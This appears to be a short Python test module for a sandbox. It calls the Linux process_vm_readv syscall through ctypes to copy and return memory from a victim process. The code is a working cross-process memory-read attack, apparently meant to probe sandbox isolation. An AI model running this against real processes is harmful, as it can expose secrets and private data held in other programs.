"""Read another process's memory."""

import ctypes

from sandbox.weapons import World, syscall


def attack(world: World) -> object:
    copy = ctypes.create_string_buffer(world["length"])
    mine = (ctypes.c_size_t * 2)(ctypes.addressof(copy), world["length"])
    theirs = (ctypes.c_size_t * 2)(world["address"], world["length"])
    syscall("process_vm_readv", world["victim"], ctypes.addressof(mine), 1, ctypes.addressof(theirs), 1, 0)
    return copy.raw.decode()
